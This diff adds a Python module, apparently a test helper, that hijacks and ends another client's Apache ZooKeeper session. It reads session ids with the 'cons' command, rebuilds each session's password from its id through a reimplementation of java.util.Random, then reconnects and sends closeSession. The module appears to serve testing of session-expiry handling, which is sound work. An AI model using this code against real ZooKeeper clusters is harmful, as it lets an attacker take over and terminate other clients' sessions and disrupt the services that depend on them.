@@ -1,0 +1,54 @@
+"""Just enough of ZooKeeper's protocol to end a session that is somebody else's.
+
+A session may be continued by whoever knows its id and password, and closed. The server derives the
+password from the id (SessionTrackerImpl and ZooKeeperServer: java.util.Random, seeded with the id and
+a constant), and tells the ids with the word `cons`. So a session can be made to expire at once, while
+its client lives and has no reason to doubt it.
+"""
+
+import re
+import socket
+import struct
+
+SUPER_SECRET = 0xB3415C00
+CLOSE_SESSION = -11
+PASSWORD_LENGTH = 16
+
+
+def password_of(session):
+    """16 bytes of java.util.Random(session ^ SUPER_SECRET)."""
+    state = ((session ^ SUPER_SECRET) ^ 0x5DEECE66D) & ((1 << 48) - 1)
+    password = b""
+    while len(password) < PASSWORD_LENGTH:
+        state = (state * 0x5DEECE66D + 0xB) & ((1 << 48) - 1)
+        password += struct.pack("<I", (state >> 16) & 0xFFFFFFFF)
+    return password
+
+
+def sessions(zookeeper):
+    """Ids of the sessions that are connected, by the port that the client connects from."""
+    lines = zookeeper.say("cons").splitlines()
+    found = (re.search(r":(\d+)\[.*sid=0x([0-9a-f]+)", line) for line in lines)
+    return {int(match.group(1)): int(match.group(2), 16) for match in found if match}
+
+
+def receive(connection):
+    length = struct.unpack(">i", connection.recv(4, socket.MSG_WAITALL))[0]
+    return connection.recv(length, socket.MSG_WAITALL)
+
+
+def send(connection, body):
+    connection.sendall(struct.pack(">i", len(body)) + body)
+
+
+def end_session(zookeeper, session):
+    """Continues a session and closes it: its nodes are gone, and its client hears of it."""
+    with socket.create_connection(("127.0.0.1", zookeeper.port), 5) as connection:
+        connection.settimeout(5)
+        password = password_of(session)
+        send(connection, struct.pack(">iqiqi", 0, 0, 10000, session, len(password)) + password + b"\0")
+        granted = struct.unpack_from(">iiq", receive(connection))[2]
+        if granted != session:
+            raise AssertionError(f"session {session:x} was not continued: {granted:x}")
+        send(connection, struct.pack(">ii", 1, CLOSE_SESSION))
+        connection.recv(64)  # an answer, or the end
